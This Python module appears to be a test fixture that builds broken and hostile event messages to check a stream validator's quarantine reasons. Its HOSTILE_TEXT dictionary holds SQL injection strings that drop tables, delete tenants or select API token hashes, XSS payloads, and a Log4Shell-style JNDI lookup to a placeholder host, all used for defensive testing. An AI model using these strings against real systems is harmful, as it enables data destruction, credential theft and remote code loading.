"""A catalogue of broken and hostile messages for the bad input suite, each with the outcome the
event contract (``include/events``, ``docs/events.md``) and the quarantine reasons
(``jobs/stream/validate.py``, ``docs/streaming.md``) call for.

Every payload is unique (it carries its case id or its own event id), so a test finds each one
again in the quarantine table by its bytes.
"""

from __future__ import annotations

import copy
import uuid
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

import orjson

from jobs.stream.validate import (
    CURRENCY_MISMATCH,
    INVALID_JSON,
    PAYLOAD_TOO_LARGE,
    SCHEMA_VIOLATION,
    TENANT_MISMATCH,
    UNSUPPORTED_SCHEMA_VERSION,
)

_NAMESPACE = uuid.UUID("6f1c3a52-7d0e-4b8e-9a55-0d6c1b2b7e11")

SQL = "'; DROP TABLE events; --"
SCRIPT = "<script>alert(document.cookie)</script>"
# Strings that are data in every free-text field of the contract. Each valid hostile event
# carries one of them in all its free-text fields.
HOSTILE_TEXT = {
    "sql-drop": SQL,
    "sql-drop-keys": "Robert'); DROP TABLE stream_event_keys;--",
    "sql-union": "' OR '1'='1' UNION SELECT token_hash FROM api_tokens --",
    "sql-dollar-quote": "$$; DELETE FROM tenants; $$",
    "script": SCRIPT,
    "html-attribute": '"><img src=x onerror=alert(1)>',
    "template": "{{7*7}}${7*7}${jndi:ldap://x.example/a}",
    # What could break a CSV COPY into PostgreSQL: quotes, commas, newlines, tabs, the
    # end-of-data marker and the text format's NULL.
    "copy-breaker": 'a,"b"\n\\.\nc\td\\N',
    "unicode": "ü😀\u202e\u200bعربي",
}
# Free-text fields of the contract (ShortText, no pattern; device.ip only has a maximum length;
# customer.customer_id has the erasable-id pattern, so it is among the restricted fields).
FREE_TEXT_FIELDS: list[tuple[str, ...]] = [
    ("session_id",),
    ("customer", "segment"),
    ("device", "os"),
    ("device", "browser"),
    ("device", "ip"),
    ("order", "order_id"),
    ("order", "payment_method"),
    ("ml_context", "model_version"),
    ("lineage", "source"),
    ("lineage", "producer_id"),
    ("lineage", "trace_id"),
    ("marketing", "campaign"),
    ("marketing", "utm_source"),
    ("marketing", "utm_medium"),
]
ITEM_TEXT_FIELDS = ("sku", "category")
_MAX_CHARS: dict[tuple[str, ...], int] = {("device", "ip"): 45}
# Fields whose value the contract restricts (pattern, enum, UUID, timestamp, number, boolean):
# a hostile string there breaks the contract. (field path, expected reason, detail start).
RESTRICTED_FIELDS: list[tuple[tuple[str | int, ...], str, str]] = [
    (("tenant_id",), SCHEMA_VIOLATION, "tenant_id:"),
    (("schema_version",), UNSUPPORTED_SCHEMA_VERSION, "Input tag"),
    (("event_id",), SCHEMA_VIOLATION, "event_id:"),
    (("event_type",), SCHEMA_VIOLATION, "event_type:"),
    (("event_time",), SCHEMA_VIOLATION, "event_time:"),
    (("customer", "customer_id"), SCHEMA_VIOLATION, "customer.customer_id:"),
    (("customer", "email"), SCHEMA_VIOLATION, "customer.email:"),
    (("customer", "country"), SCHEMA_VIOLATION, "customer.country:"),
    (("device", "type"), SCHEMA_VIOLATION, "device.type:"),
    (("items", 0, "quantity"), SCHEMA_VIOLATION, "items.0.quantity:"),
    (("items", 0, "unit_price"), SCHEMA_VIOLATION, "items.0.unit_price:"),
    (("order", "total_amount"), SCHEMA_VIOLATION, "order.total_amount:"),
    (("order", "currency"), SCHEMA_VIOLATION, "order.currency:"),
    (("ml_context", "model_scores", "fraud"), SCHEMA_VIOLATION, "ml_context.model_scores.fraud:"),
    (("processing_flags", "pii_contains"), SCHEMA_VIOLATION, "processing_flags.pii_contains:"),
    (("lineage", "produced_at"), SCHEMA_VIOLATION, "lineage.produced_at:"),
]


@dataclass(frozen=True)
class BadMessage:
    """A message the stream must quarantine with ``reason``; ``detail`` starts with
    ``detail_start`` (the field path where the contract names one)."""

    kind: str
    payload: bytes
    reason: str
    detail_start: str | None


@dataclass(frozen=True)
class GoodMessage:
    """A message the contract accepts, hostile or at a limit: it must reach silver as sent."""

    kind: str
    event: dict[str, Any]
    payload: bytes


def event_id_for(kind: str) -> str:
    """The event id of case ``kind`` (stable across runs)."""
    return str(uuid.uuid5(_NAMESPACE, kind))


def purchase(kind: str, tenant: str, currency: str, event_time: datetime) -> dict[str, Any]:
    """A valid version-2 purchase of ``tenant`` with every optional field present."""
    return {
        "event_id": event_id_for(kind),
        "schema_version": 2,
        "tenant_id": tenant,
        "event_type": "purchase",
        "event_time": event_time.isoformat().replace("+00:00", "Z"),
        "session_id": f"s_{kind}",
        "customer": {
            "customer_id": "c_000042",
            "email": "shopper42@example.com",
            "country": "DE",
            "segment": "regular",
        },
        "device": {"type": "mobile", "os": "Android", "browser": "Chrome", "ip": "198.51.0.7"},
        "items": [
            {"sku": "SKU-00001", "category": "books", "quantity": 2, "unit_price": 10.25},
            {"sku": "SKU-00002", "category": "toys", "quantity": 1, "unit_price": 4.5},
        ],
        "order": {
            "order_id": f"o_{kind}",
            "total_amount": 25.0,
            "currency": currency,
            "payment_method": "card",
        },
        "ml_context": {"model_version": "scores-1", "model_scores": {"fraud": 0.1, "churn": 0.2}},
        "processing_flags": {"pii_contains": True, "gdpr_consent": True},
        "lineage": {
            "source": "bad-input-suite",
            "producer_id": "p1",
            "produced_at": event_time.isoformat().replace("+00:00", "Z"),
            "trace_id": "t1",
        },
        "marketing": {"campaign": "spring", "utm_source": "news", "utm_medium": "email"},
    }


def _set(event: dict[str, Any], path: tuple[str | int, ...], value: Any) -> dict[str, Any]:
    out = copy.deepcopy(event)
    parent: Any = out
    for part in path[:-1]:
        parent = parent[part]
    parent[path[-1]] = value
    return out


def _drop(event: dict[str, Any], path: tuple[str | int, ...]) -> dict[str, Any]:
    out = copy.deepcopy(event)
    parent: Any = out
    for part in path[:-1]:
        parent = parent[part]
    del parent[path[-1]]
    return out


def good_messages(
    tenant: str, currency: str, now: datetime, max_payload_bytes: int
) -> list[GoodMessage]:
    """Valid events: hostile free text in every free-text field, and values at the limits."""
    out: list[GoodMessage] = []
    for name, text in HOSTILE_TEXT.items():
        kind = f"text-{name}"
        event = purchase(kind, tenant, currency, now - timedelta(minutes=5))
        for path in FREE_TEXT_FIELDS:
            event = _set(event, path, text[: _MAX_CHARS.get(path, 200)])
        for n in range(len(event["items"])):
            for field in ITEM_TEXT_FIELDS:
                event = _set(event, ("items", n, field), text)
        event["ml_context"]["model_scores"] = {text: 0.5}
        # An email is restricted to one "@" and no white space, which still leaves room.
        event["customer"]["email"] = "'OR'1'='1'--@x.example"
        out.append(GoodMessage(kind, event, orjson.dumps(event)))
    late = purchase("late-30-days", tenant, currency, now - timedelta(days=30))
    ahead = purchase("ahead-1-hour", tenant, currency, now + timedelta(hours=1))
    out += [GoodMessage(e["session_id"][2:], e, orjson.dumps(e)) for e in (late, ahead)]
    # Padded with white space (valid JSON) to exactly the largest payload the stream takes.
    at_limit = purchase("payload-at-the-limit", tenant, currency, now)
    body = orjson.dumps(at_limit)
    out.append(
        GoodMessage("payload-at-the-limit", at_limit, body + b" " * (max_payload_bytes - len(body)))
    )
    return out


def plain_valid(kind: str, tenant: str, currency: str, now: datetime) -> GoodMessage:
    """An ordinary valid event."""
    event = purchase(kind, tenant, currency, now)
    return GoodMessage(kind, event, orjson.dumps(event))


def bad_messages(
    tenant: str, other_tenant: str, currency: str, now: datetime, max_payload_bytes: int
) -> list[BadMessage]:
    """Every kind of broken message, with the reason the contract calls for."""
    out: list[BadMessage] = []

    def add(kind: str, payload: bytes, reason: str, detail_start: str | None) -> None:
        out.append(BadMessage(kind, payload, reason, detail_start))

    def base(kind: str) -> dict[str, Any]:
        return purchase(kind, tenant, currency, now)

    # Not JSON (docs/streaming.md: "not JSON, or not UTF-8, or empty").
    whole = orjson.dumps(base("invalid-json-truncated"))
    add("invalid-json-truncated", whole[: len(whole) // 2], INVALID_JSON, "Invalid JSON")
    add("invalid-json-garbage", b"invalid-json-garbage: {not json", INVALID_JSON, "Invalid JSON")
    add(
        "invalid-json-single-quotes",
        str(base("invalid-json-single-quotes")).encode(),
        INVALID_JSON,
        "Invalid JSON",
    )
    add(
        "invalid-json-trailing-comma",
        orjson.dumps(base("invalid-json-trailing-comma"))[:-1] + b",}",
        INVALID_JSON,
        "Invalid JSON",
    )
    add(
        "invalid-json-nan-literal",
        orjson.dumps(base("invalid-json-nan-literal")).replace(b'"fraud":0.1', b'"fraud":NaN'),
        INVALID_JSON,
        "Invalid JSON",
    )
    add(
        "invalid-json-two-documents",
        orjson.dumps(base("invalid-json-two-documents")) * 2,
        INVALID_JSON,
        "Invalid JSON",
    )
    add("invalid-json-empty", b"", INVALID_JSON, None)
    # Not UTF-8.
    for kind, raw in [
        ("invalid-utf8-byte-ff", b"\xff"),
        ("invalid-utf8-overlong", b"\xc0\xaf"),
        ("invalid-utf8-surrogate", b"\xed\xa0\x80"),
        ("invalid-utf8-latin1", "é".encode("latin-1")),
    ]:
        event = _set(base(kind), ("customer", "segment"), "SEGMENT")
        add(kind, orjson.dumps(event).replace(b"SEGMENT", raw), INVALID_JSON, "Invalid JSON")
    add(
        "invalid-utf8-utf16-document",
        orjson.dumps(base("invalid-utf8-utf16-document")).decode().encode("utf-16"),
        INVALID_JSON,
        "Invalid JSON",
    )
    # Wrong JSON types (the contract's types, not what a lax parser could coerce).
    wrong_types: list[tuple[str, tuple[str | int, ...], Any, str]] = [
        ("quantity-as-string", ("items", 0, "quantity"), "2", "items.0.quantity:"),
        ("quantity-as-bool", ("items", 0, "quantity"), True, "items.0.quantity:"),
        ("quantity-as-fraction", ("items", 0, "quantity"), 1.5, "items.0.quantity:"),
        ("event-time-as-number", ("event_time",), 1_764_072_000, "event_time:"),
        ("customer-as-string", ("customer",), "c_000042", "customer:"),
        ("items-as-object", ("items",), {"sku": "SKU-1"}, "items:"),
        ("flag-as-string", ("processing_flags", "gdpr_consent"), "true", "processing_flags."),
        ("score-as-string", ("ml_context", "model_scores", "fraud"), "0.1", "ml_context."),
        ("amount-as-bool", ("order", "total_amount"), True, "order.total_amount:"),
        ("session-as-number", ("session_id",), 12345, "session_id:"),
        ("tenant-as-list", ("tenant_id",), [tenant], "tenant_id:"),
    ]
    for name, path, value, detail in wrong_types:
        kind = f"wrong-type-{name}"
        add(kind, orjson.dumps(_set(base(kind), path, value)), SCHEMA_VIOLATION, detail)
    # True equals the tag 1; a version 1 event (no marketing) must still be refused.
    kind = "wrong-type-version-as-bool"
    event = _set(_drop(base(kind), ("marketing",)), ("schema_version",), True)
    add(kind, orjson.dumps(event), SCHEMA_VIOLATION, "schema_version: must be a JSON integer")
    add("wrong-type-root-array", b'["wrong-type-root-array"]', SCHEMA_VIOLATION, "<root>:")
    add("wrong-type-root-string", b'"wrong-type-root-string"', SCHEMA_VIOLATION, "<root>:")
    # Required fields missing.
    required: list[tuple[tuple[str | int, ...], str]] = [
        (("event_id",), "event_id: Field required"),
        (("tenant_id",), "tenant_id: Field required"),
        (("event_type",), "event_type: Field required"),
        (("event_time",), "event_time: Field required"),
        (("session_id",), "session_id: Field required"),
        (("customer",), "customer: Field required"),
        (("customer", "customer_id"), "customer.customer_id: Field required"),
        (("items", 0, "sku"), "items.0.sku: Field required"),
        (("order", "currency"), "order.currency: Field required"),
        (("lineage",), "lineage: Field required"),
        (("lineage", "source"), "lineage.source: Field required"),
        (("schema_version",), "schema_version: Field required"),
    ]
    for path, detail in required:
        kind = "missing-" + "-".join(str(p) for p in path)
        add(kind, orjson.dumps(_drop(base(kind), path)), SCHEMA_VIOLATION, detail)
    # A purchase needs its order (a rule across fields: the path is the event itself).
    kind = "missing-order-of-a-purchase"
    add(kind, orjson.dumps(_drop(base(kind), ("order",))), SCHEMA_VIOLATION, "<root>:")
    # Unknown fields are refused (docs/events.md).
    unknown: list[tuple[tuple[str | int, ...], str]] = [
        (("coupon",), "coupon: Extra inputs are not permitted"),
        (("customer", "password"), "customer.password: Extra inputs are not permitted"),
        (("items", 0, "discount"), "items.0.discount: Extra inputs are not permitted"),
        (("order", "tax"), "order.tax: Extra inputs are not permitted"),
    ]
    for path, detail in unknown:
        kind = "unknown-" + "-".join(str(p) for p in path)
        add(kind, orjson.dumps(_set(base(kind), path, "x")), SCHEMA_VIOLATION, detail)
    kind = "unknown-marketing-in-version-1"
    v1 = _set(base(kind), ("schema_version",), 1)
    add(kind, orjson.dumps(v1), SCHEMA_VIOLATION, "marketing: Extra inputs are not permitted")
    # Larger than the configured maximum.
    over = orjson.dumps(base("huge-payload-one-byte-over"))
    over += b" " * (max_payload_bytes + 1 - len(over))
    add(
        "huge-payload-one-byte-over",
        over,
        PAYLOAD_TOO_LARGE,
        f"{max_payload_bytes + 1} bytes > {max_payload_bytes}",
    )
    huge = _set(base("huge-payload-1-mib"), ("session_id",), "h" * (1 << 20))
    huge_bytes = orjson.dumps(huge)
    add(
        "huge-payload-1-mib",
        huge_bytes,
        PAYLOAD_TOO_LARGE,
        f"{len(huge_bytes)} bytes > {max_payload_bytes}",
    )
    # Nested 10,000 levels deep: well-formed JSON, but the contract nests at most 3 levels.
    depth = 10_000
    add(
        "deep-nesting-arrays",
        b'["deep-nesting-arrays",' + b"[" * depth + b"]" * depth + b"]",
        SCHEMA_VIOLATION,
        "<root>: nested deeper",
    )
    add(
        "deep-nesting-objects",
        b'{"deep-nesting-objects":' + b'{"a":' * depth + b"1" + b"}" * depth + b"}",
        SCHEMA_VIOLATION,
        "<root>: nested deeper",
    )
    kind = "deep-nesting-in-a-field"
    nested = _set(base(kind), ("customer", "segment"), "NESTED")
    add(
        kind,
        orjson.dumps(nested).replace(b'"NESTED"', b"[" * depth + b"]" * depth),
        SCHEMA_VIOLATION,
        "<root>: nested deeper",
    )
    # Versions other than 1 and 2.
    for name, version in [
        ("3", 3),
        ("0", 0),
        ("negative", -1),
        ("huge", 2**62),
        ("fraction", 1.5),
        ("string", "2"),
        ("null", None),
    ]:
        kind = f"unsupported-version-{name}"
        event = _set(base(kind), ("schema_version",), version)
        add(kind, orjson.dumps(event), UNSUPPORTED_SCHEMA_VERSION, "Input tag")
    # The payload's tenant is not the topic's.
    kind = "tenant-mismatch-registered-tenant"
    event = _set(base(kind), ("tenant_id",), other_tenant)
    add(kind, orjson.dumps(event), TENANT_MISMATCH, f"payload tenant {other_tenant!r}")
    kind = "tenant-mismatch-unregistered-tenant"
    event = _set(base(kind), ("tenant_id",), "nobody_shop")
    add(kind, orjson.dumps(event), TENANT_MISMATCH, "payload tenant 'nobody_shop'")
    kind = "tenant-id-not-an-id"  # breaks the tenant id pattern before it can mismatch
    event = _set(base(kind), ("tenant_id",), tenant.upper())
    add(kind, orjson.dumps(event), SCHEMA_VIOLATION, "tenant_id:")
    # The order's currency is not the tenant's.
    other_currency = "EUR" if currency != "EUR" else "USD"
    kind = "currency-mismatch-purchase"
    event = _set(base(kind), ("order", "currency"), other_currency)
    add(kind, orjson.dumps(event), CURRENCY_MISMATCH, f"order currency {other_currency}")
    kind = "currency-mismatch-refund"
    event = _set(_set(base(kind), ("event_type",), "refund"), ("order", "currency"), "JPY")
    add(kind, orjson.dumps(event), CURRENCY_MISMATCH, "order currency JPY")
    # SQL and script in every field whose value the contract restricts.
    for label, text in (("sql", SQL), ("script", SCRIPT)):
        for path, reason, detail in RESTRICTED_FIELDS:
            kind = f"{label}-in-" + ".".join(str(p) for p in path)
            add(kind, orjson.dumps(_set(base(kind), path, text)), reason, detail)
    # Text that no downstream store can hold.
    kind = "nul-in-free-text"
    event = _set(base(kind), ("session_id",), "s\x00" + kind)
    add(kind, orjson.dumps(event), SCHEMA_VIOLATION, "session_id: text contains U+0000")
    kind = "infinite-score"
    overflow = orjson.dumps(base(kind)).replace(b'"fraud":0.1', b'"fraud":1e400')
    add(kind, overflow, SCHEMA_VIOLATION, "ml_context.model_scores.fraud: Input should be a finite")
    # Event times no working clock produces (relative to the publish time, about now).
    times = [
        ("epoch-zero", "1970-01-01T00:00:00Z"),
        ("year-1", "0001-01-01T00:00:00Z"),
        ("year-1-east-of-utc", "0001-01-01T00:00:00+05:00"),  # before year 1 in UTC
        ("eleven-years-ago", (now - timedelta(days=11 * 366)).isoformat()),
        ("two-days-ahead", (now + timedelta(days=2)).isoformat()),
        ("year-2999", "2999-01-01T00:00:00Z"),
        ("year-9999-west-of-utc", "9999-12-31T23:59:59-05:00"),  # after year 9999 in UTC
    ]
    for name, value in times:
        kind = f"event-time-{name}"
        event = _set(base(kind), ("event_time",), value)
        add(kind, orjson.dumps(event), SCHEMA_VIOLATION, "event_time:")
    kind = "produced-at-year-9999-west-of-utc"
    event = _set(base(kind), ("lineage", "produced_at"), "9999-12-31T23:59:59-05:00")
    add(kind, orjson.dumps(event), SCHEMA_VIOLATION, "lineage.produced_at:")
    return out


def utc_now_minute() -> datetime:
    """Now, to the minute (event times of the suite)."""
    return datetime.now(UTC).replace(second=0, microsecond=0)
